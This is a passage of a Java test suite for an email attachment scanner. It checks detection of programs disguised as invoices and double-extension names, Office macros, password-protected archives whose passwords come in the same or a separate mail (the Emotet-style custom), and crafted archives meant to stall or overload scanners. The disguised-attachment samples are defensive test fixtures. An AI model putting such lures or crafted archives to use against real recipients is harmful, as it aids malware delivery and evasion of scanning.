        byte[] docm = zip("[Content_Types].xml", ascii("<Types/>"), "word/document.xml", ascii("<w:document/>"),
                "word/vbaProject.bin", new byte[16]);
        assertThat(analyze(file("scan.pdf", pdfWithFile("invoice.pdf.exe", pe())),
                file("order.pdf", pdfWithFile("注文書.docm", docm))))
                .containsExactly(
                        Finding.of("ATTACHMENT_EXECUTABLE", "scan.pdf!/invoice.pdf.exe"),
                        Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "scan.pdf!/invoice.pdf.exe"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "scan.pdf!/invoice.pdf.exe: Windows executable (PE)"),
                        Finding.of("OFFICE_MACRO", "order.pdf!/注文書.docm"));
    }

    @Test
    void ordinaryPdfsWithFormScriptsOrAnInvoicesXmlAreNothing() throws Exception {
        // a link that runs a script when clicked (as a form's button does), and a Factur-X invoice's XML
        byte[] button = pdf(doc -> {
            var link = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
            link.setAction(new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("this.print()"));
            doc.getPage(0).getAnnotations().add(link);
        });
        byte[] invoice = pdfWithFile("factur-x.xml", ascii("<?xml version=\"1.0\"?><rsm:CrossIndustryInvoice/>"));
        assertThat(analyze(file("form.pdf", button), file("invoice.pdf", invoice),
                file("clean.pdf", sample("pdf/clean.pdf")))).isEmpty();
    }

    @Test
    void aPdfEncryptedForRecipientsCertificatesIsEncryptedAndFailsNoAnalysis() throws Exception {
        // the fuzzer's find: PDFBox opens such a PDF only with BouncyCastle, which is not shipped, and threw an Error
        String pdf = new String(sample("pdf/user-password-aes128.pdf"), StandardCharsets.ISO_8859_1);
        assertThat(pdf).contains("/Filter /Standard");
        byte[] pubSec = pdf.replace("/Filter /Standard", "/Filter /Adobe.PubSec").getBytes(StandardCharsets.ISO_8859_1);
        assertThat(analyze(file("cert.pdf", pubSec))).containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "cert.pdf (part 2)"));
    }

    @Test
    void aPdfThatNeedsAUserPasswordIsEncryptedWhateverTheRevision() throws Exception {
        assertThat(analyze(file("rc4-40.pdf", sample("pdf/user-password-rc4-40.pdf")),
                file("rc4-128.pdf", sample("pdf/user-password-rc4-128.pdf")),
                file("aes128.pdf", sample("pdf/user-password-aes128.pdf")),
                file("aes256.pdf", sample("pdf/user-password-aes256.pdf"))))
                .containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE", "rc4-40.pdf (part 2)"),
                        Finding.of("ENCRYPTED_ARCHIVE", "rc4-128.pdf (part 3)"),
                        Finding.of("ENCRYPTED_ARCHIVE", "aes128.pdf (part 4)"),
                        Finding.of("ENCRYPTED_ARCHIVE", "aes256.pdf (part 5)"));
    }

    @Test
    void aPdfWithOnlyAnOwnerPasswordOpensWithoutOneAndIsNotEncrypted() throws Exception {
        assertThat(analyze(file("clean.pdf", sample("pdf/clean.pdf")),
                file("rc4-40.pdf", sample("pdf/owner-only-rc4-40.pdf")),
                file("aes128.pdf", sample("pdf/owner-only-aes128.pdf")),
                file("aes256.pdf", sample("pdf/owner-only-aes256-objstm.pdf")))).isEmpty();
    }

    @Test
    void aDamagedPdfIsEncryptedWhenItDeclaresEncryptionAndOtherwiseNothing() throws Exception {
        byte[] encrypted = sample("pdf/user-password-aes256.pdf");
        String text = new String(encrypted, StandardCharsets.ISO_8859_1);
        // the cross-reference table garbled: PDFBox rebuilds it and still finds the encryption dictionary
        byte[] noXref = text.replace("xref\n0 7\n", "junk\n").replace("\n1084\n", "\n9\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        // cut before the trailer that names the encryption dictionary: nothing says it is encrypted
        byte[] cut = java.util.Arrays.copyOf(encrypted, encrypted.length / 2);
        // a trailer naming an encryption dictionary that is not there: nobody can open it
        byte[] garbled = ascii("%PDF-1.7\ntrailer << /Encrypt 9 0 R /Root 1 0 R >>\n%%EOF\n");

        assertThat(analyze(file("no-xref.pdf", noXref), file("cut.pdf", cut), file("garbled.pdf", garbled),
                file("nothing.pdf", ascii("%PDF-1.7\nnothing here"))))
                .containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE", "no-xref.pdf (part 2)"),
                        Finding.of("ENCRYPTED_ARCHIVE", "garbled.pdf (part 4)"));
    }

    @Test
    void spamAssassinsEncryptedWordDocumentIsEncryptedAndThePasswordItsMessageGivesOpensIt() throws Exception {
        // "Doc password is password": the real file (SpamAssassin's test data) opens with it; it holds no macro
        assertThat(fixtureMessage("spamassassin-encrypted.eml")).containsExactly(
                Finding.of("ENCRYPTED_ARCHIVE_OPENED", "encrypted_word_doc.docx (part 2)"),
                Finding.of("ARCHIVE_PASSWORD_IN_MESSAGE", "encrypted_word_doc.docx (part 2)"));
    }

    @Test
    void aPasswordZipWithTheMacroWorkbookFromSpamAssassinIsEncrypted() throws Exception {
        assertThat(fixtureMessage("spamassassin-zippwmacro.eml")).containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "macro.zip (part 2)"));
    }

    @Test
    void zipCryptoAesAndPkwareStrongEncryptionAreAllEncrypted() throws Exception {
        assertThat(analyze(file("dde.zip", sample("oletools/dde-test-from-office2016.doc.zip")),
                file("zipcrypto.zip", sample("zip4j/store_compression_made_with_v1.3.3.zip")),
                file("aes.zip", sample("zip4j/aes_with_extra_data_record_and_corrupt_mac.zip")),
                file("strong.zip", sample("zip4j/strong_encrypted.zip"))))
                .extracting(Finding::code, Finding::evidence)
                .contains(
                        org.assertj.core.groups.Tuple.tuple("ENCRYPTED_ARCHIVE", "dde.zip (part 2)"),
                        org.assertj.core.groups.Tuple.tuple("ENCRYPTED_ARCHIVE", "zipcrypto.zip (part 3)"),
                        org.assertj.core.groups.Tuple.tuple("ENCRYPTED_ARCHIVE", "aes.zip (part 4)"),
                        org.assertj.core.groups.Tuple.tuple("ENCRYPTED_ARCHIVE", "strong.zip (part 5)"));
    }

    @Test
    void namesInsideAnEncryptedZipAreStillChecked() throws Exception {
        // ZipCrypto encrypts contents, not names: build one by setting the encryption flag on a stored entry.
        byte[] zip = zip("請求書.pdf.exe", pe());
        zip[6] |= 1; // general purpose bit 0 of the local header
        int central = indexOf(zip, new byte[] {'P', 'K', 1, 2});
        zip[central + 8] |= 1;

        assertThat(analyze(file("secret.zip", zip))).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE", "secret.zip!/請求書.pdf.exe"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "secret.zip!/請求書.pdf.exe"),
                Finding.of("ENCRYPTED_ARCHIVE", "secret.zip (part 2)"));
    }

    private static int indexOf(byte[] data, byte[] pattern) {
        outer:
        for (int i = 0; i + pattern.length <= data.length; i++) {
            for (int j = 0; j < pattern.length; j++) {
                if (data[i + j] != pattern[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalArgumentException("pattern not found");
    }

    @Test
    void aRarWithEncryptedHeadersIsEncrypted() throws Exception {
        // RAR 5: signature, then a header with CRC32, size 2 and type 4 (archive encryption header).
        byte[] rar5Encrypted = {'R', 'a', 'r', '!', 0x1A, 0x07, 0x01, 0x00, 0, 0, 0, 0, 0x02, 0x04, 0x00, 0x00};
        // RAR 4: signature, then the main header (CRC16, type 0x73, flags 0x0080: headers encrypted, size 13).
        byte[] rar4Encrypted = {'R', 'a', 'r', '!', 0x1A, 0x07, 0x00, 0, 0, 0x73, (byte) 0x80, 0x00, 0x0D, 0x00, 0, 0, 0, 0, 0, 0};

        assertThat(analyze(file("secret.rar", rar5Encrypted), file("photos.rar", rar4Encrypted))).containsExactly(
                Finding.of("ENCRYPTED_ARCHIVE", "secret.rar (part 2)"),
                Finding.of("ENCRYPTED_ARCHIVE", "photos.rar (part 3)"));
    }

    @Test
    void aRarIsListedItsStoredEntriesInspectedAndItsCompressedOnesNamedNotInspected() throws Exception {
        // a program stored under a document's name, a program's name on data marked compressed that is not RAR's
        // compression (libarchive cannot unpack it), a note
        byte[] rar5 = RarWriter.rar5()
                .add("請求書/invoice.pdf", RarWriter.Kind.STORED, pe())
                .add("請求書/請求書.pdf.exe", RarWriter.Kind.COMPRESSED, pe())
                .add("readme.txt", RarWriter.Kind.STORED, ascii("Please see the invoice.\r\n"))
                .end();
        byte[] rar4 = RarWriter.rar4()
                .add("photo.jpg.scr", RarWriter.Kind.STORED, pe())
                .add("secret.docx", RarWriter.Kind.ENCRYPTED, ascii("opaque"))
                .end();

        assertThat(analyze(file("請求書.rar", rar5), file("photos.rar", rar4))).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.rar!/請求書/invoice.pdf: Windows executable (PE)"),
                new Finding("ATTACHMENT_TYPE_MISMATCH", 1.0, "請求書.rar!/請求書/invoice.pdf: named .pdf, content is "
                        + "application/x-msdownload"),
                Finding.of("ATTACHMENT_EXECUTABLE", "請求書.rar!/請求書/請求書.pdf.exe"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "請求書.rar!/請求書/請求書.pdf.exe"),
                Finding.of("ATTACHMENT_NOT_INSPECTED",
                        "請求書.rar: 1 compressed RAR entry not unpacked (damaged or unsupported; names checked)"),
                Finding.of("ATTACHMENT_EXECUTABLE", "photos.rar!/photo.jpg.scr"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "photos.rar!/photo.jpg.scr"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "photos.rar!/photo.jpg.scr: Windows executable (PE)"),
                Finding.of("ENCRYPTED_ARCHIVE", "photos.rar (part 3)"));

        // without an unpacker (no bsdtar on the machine) the same, and the compressed entry is only counted
        AttachmentContentAnalyzer headersOnly = new AttachmentContentAnalyzer(ArchiveLimits.defaults(), RarUnpacker.NONE);
        assertThat(analyze(headersOnly, mail(file("請求書.rar", rar5)), ParseLimits.defaults())).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.rar!/請求書/invoice.pdf: Windows executable (PE)"),
                new Finding("ATTACHMENT_TYPE_MISMATCH", 1.0, "請求書.rar!/請求書/invoice.pdf: named .pdf, content is "
                        + "application/x-msdownload"),
                Finding.of("ATTACHMENT_EXECUTABLE", "請求書.rar!/請求書/請求書.pdf.exe"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "請求書.rar!/請求書/請求書.pdf.exe"),
                Finding.of("ATTACHMENT_NOT_INSPECTED", "請求書.rar: 1 compressed RAR entry not unpacked (names checked)"));
    }

    // ---- encrypted zip archives whose password the message gives (PPAP) -------------------------------------

    private static byte[] encryptedZip(String password, boolean aes, Object... namesAndContents) throws IOException {
        return EncryptedFiles.zip(password, aes, namesAndContents);
    }

    private static byte[] mailWithBody(String bodyType, String body, Attachment... attachments) {
        String raw = new String(mail(attachments), StandardCharsets.UTF_8);
        return raw.replace("Content-Type: text/plain; charset=utf-8\r\n\r\nご確認ください。\r\n",
                "Content-Type: " + bodyType + "; charset=utf-8\r\n\r\n" + body + "\r\n").getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void anEncryptedZipWhosePasswordTheMessageGivesIsOpenedAndInspected() throws Exception {
        // the custom of a password-protected zip with its password in the same mail (PPAP), as Emotet used it
        assertAnInvoiceArchiveOpensWithThePasswordInItsMessageOnly("請求書.zip",
                encryptedZip("Inv0ice-2025", true, "請求書/請求書.pdf", pe(), "readme.txt", ascii("see the invoice")));

        // ZipCrypto, the password full-width in an HTML body, on the line after the word
        byte[] zipCrypto = encryptedZip("Abc12345", false, "scan.js", ascii("var sh = WScript.CreateObject(\"WScript.Shell\");"));
        String html = "<html><body><p>ファイルを送ります。</p><p>【解凍パスワード】<br>Ａｂｃ１２３４５</p></body></html>";
        assertThat(analyze(mailWithBody("text/html", html, file("scan.zip", zipCrypto))))
                .extracting(Finding::code, Finding::evidence).contains(
                        org.assertj.core.groups.Tuple.tuple("ENCRYPTED_ARCHIVE_OPENED", "scan.zip (part 2)"),
                        org.assertj.core.groups.Tuple.tuple("ARCHIVE_PASSWORD_IN_MESSAGE", "scan.zip (part 2)"),
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_EXECUTABLE_CONTENT", "scan.zip!/scan.js: Windows script (wscript.shell)"));
    }

    /**
     * A partner-style PPAP invoice: {@code archive} (password Inv0ice-2025) holds 請求書/請求書.pdf, a program, and a
     * readme. With its password in the message it is opened and inspected; with a wrong password, or none, it is
     * encrypted and nothing more.
     */
    private void assertAnInvoiceArchiveOpensWithThePasswordInItsMessageOnly(String name, byte[] archive) throws Exception {
        String body = "お世話になっております。\r\n請求書を送付いたします。\r\nパスワード：Inv0ice-2025\r\n";
        assertThat(analyze(mailWithBody("text/plain", body, file(name, archive)))).containsExactly(
                Finding.of("ENCRYPTED_ARCHIVE_OPENED", name + " (part 2)"),
                Finding.of("ARCHIVE_PASSWORD_IN_MESSAGE", name + " (part 2)"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", name + "!/請求書/請求書.pdf: Windows executable (PE)"),
                new Finding("ATTACHMENT_TYPE_MISMATCH", 1.0, name + "!/請求書/請求書.pdf: named .pdf, content is "
                        + "application/x-msdownload"));
        for (String other : List.of("パスワード：Wrong-Pass1", "パスワードは別途お送りします。")) {
            assertThat(analyze(mailWithBody("text/plain", other, file(name, archive)))).containsExactly(
                    Finding.of("ENCRYPTED_ARCHIVE", name + " (part 2)"));
        }
    }

    private List<Finding> analyzeWithPasswordMail(byte[] raw, PasswordMail mail) throws Exception {
        try (ParsedMessage m = new MessageParser(ParseLimits.defaults(), temp).parse(new ByteArrayInputStream(raw))) {
            return analyzer.analyze(new AnalysisInput(ENVELOPE, m, null, new io.mamori.core.analysis.TraceFields("localhost"),
                    new io.mamori.core.analysis.MessageMemo(), mail));
        }
    }

    @Test
    void anEncryptedAttachmentIsOpenedWithThePasswordsOfASeparatePasswordMail() throws Exception {
        // パスワード別送: the zip in one mail, "パスワード：…" in the next; the gateway hands the second's passwords over
        byte[] aes = encryptedZip("Inv0ice-2025", true, "請求書/請求書.pdf", pe());
        byte[] first = mailWithBody("text/plain", "請求書を送付いたします。パスワードは別途お送りします。", file("請求書.zip", aes));
        assertThat(analyzeWithPasswordMail(first, new PasswordMail("0Q1PASSWORDMAIL", List.of("wrong-one", "Inv0ice-2025"))))
                .containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE_OPENED", "請求書.zip (part 2)"),
                        Finding.of("ARCHIVE_PASSWORD_SENT_SEPARATELY",
                                "請求書.zip (part 2): password from message 0Q1PASSWORDMAIL"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.zip!/請求書/請求書.pdf: Windows executable (PE)"),
                        new Finding("ATTACHMENT_TYPE_MISMATCH", 1.0, "請求書.zip!/請求書/請求書.pdf: named .pdf, content is "
                                + "application/x-msdownload"));
        // the mail's passwords do not open it: encrypted, as without them
        assertThat(analyzeWithPasswordMail(first, new PasswordMail("0Q1PASSWORDMAIL", List.of("Wrong-Pass1"))))
                .containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "請求書.zip (part 2)"));
        // the message gives the password itself too: it counts as the message's
        byte[] both = mailWithBody("text/plain", "パスワード：Inv0ice-2025", file("請求書.zip", aes));
        assertThat(analyzeWithPasswordMail(both, new PasswordMail("0Q1PASSWORDMAIL", List.of("Inv0ice-2025"))))
                .extracting(Finding::code).containsSubsequence("ENCRYPTED_ARCHIVE_OPENED", "ARCHIVE_PASSWORD_IN_MESSAGE")
                .doesNotContain("ARCHIVE_PASSWORD_SENT_SEPARATELY", "ENCRYPTED_ARCHIVE");
        // an analyst who got the password by telephone
        assertThat(analyzeWithPasswordMail(first, PasswordMail.fromAnalyst("kanri@example.co.jp", "Inv0ice-2025")))
                .extracting(Finding::code, Finding::evidence).startsWith(
                        org.assertj.core.groups.Tuple.tuple("ENCRYPTED_ARCHIVE_OPENED", "請求書.zip (part 2)"),
                        org.assertj.core.groups.Tuple.tuple("ARCHIVE_PASSWORD_FROM_ANALYST",
                                "請求書.zip (part 2): password from analyst kanri@example.co.jp"));
        assertThat(PasswordMail.fromAnalyst("kanri@example.co.jp", "Inv0ice-2025").toString())
                .as("never the password").doesNotContain("Inv0ice");
        // an encrypted Office document the same way
        byte[] docm = encryptedDocm("Himitsu-77");
        assertThat(analyzeWithPasswordMail(mailWithBody("text/plain", "見積書です。", file("見積書.docm", docm)),
                new PasswordMail("0Q2", List.of("Himitsu-77")))).containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE_OPENED", "見積書.docm (part 2)"),
                        Finding.of("ARCHIVE_PASSWORD_SENT_SEPARATELY", "見積書.docm (part 2): password from message 0Q2"),
                        Finding.of("OFFICE_MACRO", "見積書.docm"));
    }

    /** A macro-enabled Word document (a VBA project part) encrypted by Apache POI as Office does (agile, AES). */
    private static byte[] encryptedDocm(String password) throws Exception {
        return EncryptedFiles.officeDocument(password, zip("[Content_Types].xml", ascii("<Types/>"), "word/document.xml",
                ascii("<document/>"), "word/vbaProject.bin", ascii("VBA project (opaque for this test)")));
    }

    @Test
    void anEncryptedOfficeDocumentWhosePasswordTheMessageGivesIsDecryptedAndItsMacrosFound() throws Exception {
        // Emotet's form in Japan: a password-protected Word file with macros, the password in the body
        byte[] docm = encryptedDocm("Himitsu-77");
        assertThat(analyze(mailWithBody("text/plain", "見積書です。\r\nパスワード：Himitsu-77", file("見積書.docm", docm))))
                .containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE_OPENED", "見積書.docm (part 2)"),
                        Finding.of("ARCHIVE_PASSWORD_IN_MESSAGE", "見積書.docm (part 2)"),
                        Finding.of("OFFICE_MACRO", "見積書.docm"));
        assertThat(analyze(mailWithBody("text/plain", "パスワード：Wrong-77", file("見積書.docm", docm))))
                .containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "見積書.docm (part 2)"));
    }

    @Test
    void zip4jsOwnArchivesWithTheirPasswordsInTheMessageOpenOnlyWhenTheyVerify() throws Exception {
        // third-party archives (zip4j's test data): an AES archive with a deliberately bad authentication code is not
        // taken as opened with its right password ("test123!"); PKWARE strong encryption is not read at all
        for (String name : List.of("aes_with_extra_data_record_and_corrupt_mac.zip", "strong_encrypted.zip")) {
            String body = "password: test123!\r\npassword: 12345678\r\n";
            assertThat(analyze(mailWithBody("text/plain", body, file(name, sample("zip4j/" + name)))))
                    .extracting(Finding::code).containsOnly("ENCRYPTED_ARCHIVE");
        }
    }

    @Test
    void anEncryptedZipThatWouldExpandPastTheBufferIsNotOpenedAndSaysSo() throws Exception {
        // 40 MiB of zeros compress to almost nothing: decrypted it would be held in memory, so it is not opened
        byte[] zeros = new byte[40 * 1024 * 1024];
        byte[] bomb = encryptedZip("Abc12345", true, "data.bin", zeros);
        assertThat(bomb.length).isLessThan(1024 * 1024);
        List<Finding> found = analyze(mailWithBody("text/plain", "password: Abc12345", file("data.zip", bomb)));
        assertThat(found).containsExactly(
                Finding.of("ENCRYPTED_ARCHIVE", "data.zip (part 2)"),
                Finding.of("ATTACHMENT_NOT_INSPECTED",
                        "data.zip: a password given for it may open it, but it holds more than 32 MiB or "
                        + "1000 entries; not opened"));
    }

    // ---- encrypted 7z archives whose password the message gives (PPAP), written by the real 7-Zip ---------------

    @Test
    void anEncrypted7zWhosePasswordTheMessageGivesIsOpenedAndInspected() throws Exception {
        assertAnInvoiceArchiveOpensWithThePasswordInItsMessageOnly("請求書.7z", SevenZipArchives.encrypted("Inv0ice-2025",
                false, "請求書/請求書.pdf", pe(), "readme.txt", ascii("see the invoice")));
    }

    @Test
    void anEncrypted7zWithHiddenNamesOpensAndItsNamesAreJudgedThen() throws Exception {
        // 7z -mhe=on: the header is encrypted too, so nothing, not even the names, is seen without the password
        byte[] hidden = SevenZipArchives.encrypted("x7Kp-29q", true, "scan/invoice.pdf.exe", pe());
        assertThat(analyze(mailWithBody("text/plain", "Password: x7Kp-29q", file("scan.7z", hidden)))).containsExactly(
                Finding.of("ENCRYPTED_ARCHIVE_OPENED", "scan.7z (part 2)"),
                Finding.of("ARCHIVE_PASSWORD_IN_MESSAGE", "scan.7z (part 2)"),
                Finding.of("ATTACHMENT_EXECUTABLE", "scan.7z!/scan/invoice.pdf.exe"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "scan.7z!/scan/invoice.pdf.exe"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "scan.7z!/scan/invoice.pdf.exe: Windows executable (PE)"));
        for (String other : List.of("Password: x7Kp-29Q", "The password follows.")) {
            assertThat(analyze(mailWithBody("text/plain", other, file("scan.7z", hidden)))).containsExactly(
                    Finding.of("ENCRYPTED_ARCHIVE", "scan.7z (part 2)"));
        }
    }

    @Test
    void anEncrypted7zIsOpenedWithThePasswordsOfASeparatePasswordMail() throws Exception {
        byte[] sevenZip = SevenZipArchives.encrypted("Inv0ice-2025", true, "請求書.js",
                ascii("var sh = WScript.CreateObject(\"WScript.Shell\");"));
        byte[] first = mailWithBody("text/plain", "請求書を送付いたします。パスワードは別途お送りします。",
                file("請求書.7z", sevenZip));
        assertThat(analyzeWithPasswordMail(first, new PasswordMail("0Q1PASSWORDMAIL", List.of("wrong-one", "Inv0ice-2025"))))
                .containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE_OPENED", "請求書.7z (part 2)"),
                        Finding.of("ARCHIVE_PASSWORD_SENT_SEPARATELY",
                                "請求書.7z (part 2): password from message 0Q1PASSWORDMAIL"),
                        Finding.of("ATTACHMENT_EXECUTABLE", "請求書.7z!/請求書.js"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.7z!/請求書.js: Windows script (wscript.shell)"));
        assertThat(analyzeWithPasswordMail(first, new PasswordMail("0Q1PASSWORDMAIL", List.of("Wrong-Pass1"))))
                .containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "請求書.7z (part 2)"));
    }

    @Test
    void atMostThreeEncrypted7zArchivesAreTriedInOneMessage() throws Exception {
        // each password try costs 7-Zip's key derivation (2^19 SHA-256 rounds): the fourth archive is not tried
        byte[] sevenZip = SevenZipArchives.encrypted("Abc12345", true, "setup.bin", pe());
        List<Finding> found = analyze(mailWithBody("text/plain", "password: Abc12345", file("a.7z", sevenZip),
                file("b.7z", sevenZip), file("c.7z", sevenZip), file("d.7z", sevenZip)));
        assertThat(found).filteredOn(f -> f.code().equals("ENCRYPTED_ARCHIVE_OPENED")).extracting(Finding::evidence)
                .containsExactly("a.7z (part 2)", "b.7z (part 3)", "c.7z (part 4)");
        assertThat(found).filteredOn(f -> f.code().equals("ENCRYPTED_ARCHIVE")).extracting(Finding::evidence)
                .containsExactly("d.7z (part 5)");
        assertThat(found).filteredOn(f -> f.code().equals("ATTACHMENT_EXECUTABLE_CONTENT")).hasSize(3);
    }

    @Test
    void anEncrypted7zThatWouldExpandPastTheBufferIsNotOpenedAndSaysSo() throws Exception {
        // 2 MiB of zeros compress to almost nothing; with a 1 MiB buffer they are not held decrypted
        byte[] zeros = new byte[2 * 1024 * 1024];
        byte[] bomb = SevenZipArchives.encrypted("Abc12345", true, "data.bin", zeros);
        assertThat(bomb.length).isLessThan(16 * 1024);
        AttachmentContentAnalyzer small = new AttachmentContentAnalyzer(new ArchiveLimits(5, 1000, 100,
                200L * 1024 * 1024, 1024 * 1024));
        assertThat(analyze(small, mailWithBody("text/plain", "password: Abc12345", file("data.7z", bomb)),
                ParseLimits.defaults())).containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE", "data.7z (part 2)"),
                        Finding.of("ATTACHMENT_NOT_INSPECTED",
                                "data.7z: a password given for it may open it, but it holds more than 1 MiB or "
                                + "1000 entries; not opened"));
    }

    @Test
    void anEncrypted7zAskingForMoreKeyDerivationRoundsThan7ZipWritesIsNotTried() throws Exception {
        // the same archive with its AES coder asking for 2^40 rounds instead of 2^19 (CRCs fixed): Commons Compress
        // would hash for days without noticing interruption, so it is not tried at all
        byte[] sevenZip = SevenZipArchives.encrypted("Abc12345", false, "setup.bin", pe());
        assertThat(SevenZipKeys.of(sevenZip)).contains(new SevenZipKeys.Cost(1, 19));
        assertThat(SevenZipKeys.of(SevenZipArchives.encrypted("Abc12345", true, "setup.bin", pe())))
                .as("the header's own folder, when the header is encrypted").contains(new SevenZipKeys.Cost(1, 19, true));
        byte[] costly = SevenZipArchives.withCyclesPower(sevenZip, 40);
        assertThat(SevenZipKeys.of(costly)).contains(new SevenZipKeys.Cost(1, 40));
        List<Finding> found = org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(20),
                () -> analyze(mailWithBody("text/plain", "password: Abc12345", file("setup.7z", costly))));
        assertThat(found).containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "setup.7z (part 2)"));
    }

    @Test
    void anEncryptedHeaderIsDecryptedAloneFirstSoThatItsContentsCostIsKnownBeforeAnyFileIsRead() throws Exception {
        // 7z -mhe=on: the content's folder (one, solid) is seen only in the header decrypted with the right password
        byte[] three = SevenZipArchives.encrypted("Abc12345", true, "a.txt", ascii("one"), "b.txt", ascii("two"),
                "c.txt", ascii("three"));
        assertThat(SevenZipKeys.of(three)).contains(new SevenZipKeys.Cost(1, 19, true));
        assertThat(SevenZipKeys.hidden(three, "Abc12345".toCharArray())).contains(new SevenZipKeys.Cost(1, 19));
        assertThat(SevenZipKeys.hidden(three, "Abc12346".toCharArray())).as("a wrong password").isEmpty();

        // a crafted archive: its header asks 7-Zip's 2^19 rounds, its content 2^40; the right password opens the
        // header, which shows the content's cost, and nothing more is tried
        byte[] plain = SevenZipArchives.encrypted("Abc12345", false, "setup.bin", pe());
        byte[] fair = SevenZipArchives.withEncryptedHeader(plain, "Abc12345");
        assertThat(ArchivePasswords.openSevenZip(fair, List.of("Abc12345"), 1000, 1024 * 1024))
                .as("the hand-made encrypted header opens as 7-Zip's").hasValueSatisfying(o ->
                        assertThat(o.files()).extracting(ArchivePasswords.File::name).containsExactly("setup.bin"));
        byte[] crafted = SevenZipArchives.withEncryptedHeader(SevenZipArchives.withCyclesPower(plain, 40), "Abc12345");
        assertThat(SevenZipKeys.of(crafted)).contains(new SevenZipKeys.Cost(1, 19, true));
        assertThat(SevenZipKeys.hidden(crafted, "Abc12345".toCharArray())).contains(new SevenZipKeys.Cost(1, 40));
        List<Finding> found = org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(20),
                () -> analyze(mailWithBody("text/plain", "password: Abc12345", file("setup.7z", crafted))));
        assertThat(found).containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "setup.7z (part 2)"));
    }

    @Test
    void aDamagedEncrypted7zWithItsRightPasswordYieldsNoFilesAndCutHeadersAreNotRead() throws Exception {
        // one byte of the encrypted content changed: the right password no longer gives files that pass their CRC
        byte[] sevenZip = SevenZipArchives.encrypted("Abc12345", true, "setup.bin", pe());
        byte[] damaged = sevenZip.clone();
        damaged[40] ^= 0x55;
        assertThat(ArchivePasswords.openSevenZip(damaged, List.of("Abc12345"), 1000, 1024 * 1024)).isEmpty();
        assertThat(ArchivePasswords.openSevenZip(sevenZip, List.of("Abc12345"), 1000, 1024 * 1024))
                .hasValueSatisfying(o -> assertThat(o.files()).extracting(ArchivePasswords.File::name)
                        .containsExactly("setup.bin"));
        // every cut of the archive: the header reader answers (mostly empty), never throws
        for (int n = 0; n < sevenZip.length; n++) {
            byte[] cut = java.util.Arrays.copyOf(sevenZip, n);
            assertThat(SevenZipKeys.of(cut)).as("cut at " + n).satisfiesAnyOf(
                    c -> assertThat(c).isEmpty(), c -> assertThat(c).contains(new SevenZipKeys.Cost(1, 19, true)));
            assertThat(ArchivePasswords.openSevenZip(cut, List.of("Abc12345"), 1000, 1024 * 1024)).isEmpty();
        }
    }

    @Test
    void compressedRarEntriesAreUnpackedByLibarchiveAndInspectedLikeAnyArchivesFiles() throws Exception {
        // a program compressed under a document's name, a compressed zip holding a program, and stored entries
        byte[] rar = RarWriter.rar5()
                .add("請求書/invoice.pdf", RarWriter.Kind.PACKED, pe())
                .add("請求書/docs.zip", RarWriter.Kind.PACKED, zip("setup.pdf.exe", pe()))
                .add("readme.txt", RarWriter.Kind.STORED, ascii("Please see the invoice.\r\n"))
                .add("photo.jpg.scr", RarWriter.Kind.STORED, pe())
                .end();

        // the stored entries are inspected once, from the headers; the compressed ones from libarchive's stream
        assertThat(analyze(file("請求書.rar", rar))).containsExactly(
                Finding.of("ATTACHMENT_EXECUTABLE", "請求書.rar!/photo.jpg.scr"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "請求書.rar!/photo.jpg.scr"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.rar!/photo.jpg.scr: Windows executable (PE)"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "請求書.rar!/請求書/invoice.pdf: Windows executable (PE)"),
                new Finding("ATTACHMENT_TYPE_MISMATCH", 1.0, "請求書.rar!/請求書/invoice.pdf: named .pdf, content is "
                        + "application/x-msdownload"),
                Finding.of("ATTACHMENT_EXECUTABLE", "請求書.rar!/請求書/docs.zip!/setup.pdf.exe"),
                Finding.of("ATTACHMENT_DOUBLE_EXTENSION", "請求書.rar!/請求書/docs.zip!/setup.pdf.exe"),
                Finding.of("ATTACHMENT_EXECUTABLE_CONTENT",
                        "請求書.rar!/請求書/docs.zip!/setup.pdf.exe: Windows executable (PE)"));

        // a harmless compressed note gives nothing at all: unpacked, read, nothing to say
        byte[] note = RarWriter.rar5().add("memo.txt", RarWriter.Kind.PACKED, ascii("See you on Monday.\r\n")).end();
        assertThat(analyze(file("memo.rar", note))).isEmpty();

        // without an unpacker the compressed entries are named and counted, never passed silently
        AttachmentContentAnalyzer headersOnly = new AttachmentContentAnalyzer(ArchiveLimits.defaults(), RarUnpacker.NONE);
